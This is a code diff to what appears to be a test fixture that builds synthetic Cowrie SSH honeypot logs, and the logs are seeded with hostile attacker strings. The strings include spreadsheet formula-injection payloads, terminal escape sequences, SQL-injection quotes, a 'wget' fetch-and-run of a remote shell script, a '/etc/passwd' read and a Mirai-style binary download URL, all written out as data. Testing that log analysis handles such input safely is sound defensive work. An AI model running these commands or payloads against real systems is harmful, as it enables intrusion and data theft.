@@ -32,7 +32,17 @@ FORMULA = "=cmd|' /C calc'!A0"
 TERMINAL = "\x1b]0;owned\x07\x1b[2J\x00ssh"
 """Terminal escapes (window title, clear screen) and a NUL: harmless in a browser, not in an analyst's console."""
 HOSTILE = [XSS, FORMULA, "+1+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", XSS_ATTR, TERMINAL]
-"""Strings attackers put in log fields; the unknown hosts 0..5 each carry one (as event and as service)."""
+"""Strings attackers put in log fields; the unknown hosts 0..6 each carry one (as event and as service, username,
+password and command)."""
+QUOTES = "'\"`;-- ' OR '1'='1"
+NEWLINES = "wget http://198.51.100.9/a.sh\r\nsh a.sh\n"
+BROKEN = "cat /etc/passwd\x00\ud800\udfff\ud83d"
+"""A NUL and lone surrogates (JSON escapes that are no valid UTF-8)."""
+LONG = "echo " + "A" * 5000
+EXTRA = [QUOTES, NEWLINES, BROKEN, LONG]
+"""More commands the unknown hosts 7..10 run."""
+DOWNLOAD = "http://198.51.100.9/bins/mirai.x86"
+"""The URL every Mirai-like host downloads; unknown host 0 downloads ``http://198.51.100.9/`` + XSS."""
 
 
 def population():
@@ -48,9 +58,17 @@ def _cowrie_lines(ips, labels, day) -> list[str]:
         hostile = HOSTILE[unknown.index(ip)] if ip in unknown and unknown.index(ip) < len(HOSTILE) else None
         connect = {"eventid": "cowrie.session.connect", "session": session, "src_ip": str(int_to_ip([ip])[0]), "src_port": 40000 + i,
                    "dst_ip": "192.0.2.1", "dst_port": 22, "timestamp": ts, "protocol": hostile or "ssh"}
-        login = {"eventid": f"cowrie.login.failed{hostile}" if hostile else "cowrie.login.failed", "session": session, "timestamp": ts,
+        address = connect["src_ip"]  # Cowrie names the source on every event
+        login = {"eventid": f"cowrie.login.failed{hostile}" if hostile else "cowrie.login.failed", "session": session, "timestamp": ts, "src_ip": address,
                  "username": hostile or "root", "password": hostile or "admin"}
         lines += [json.dumps(connect), json.dumps(login)]
+        k = unknown.index(ip) if ip in unknown else -1
+        command = hostile or (EXTRA[k - len(HOSTILE)] if len(HOSTILE) <= k < len(HOSTILE) + len(EXTRA) else None)
+        if command:
+            lines.append(json.dumps({"eventid": "cowrie.command.input", "session": session, "timestamp": ts, "src_ip": address, "input": command}))
+        url = "http://198.51.100.9/" + XSS if k == 0 else DOWNLOAD if k >= len(unknown) - MIRAI_LIKE else None
+        if url:
+            lines.append(json.dumps({"eventid": "cowrie.session.file_download", "session": session, "timestamp": ts, "src_ip": address, "url": url}))
     return lines
 
 
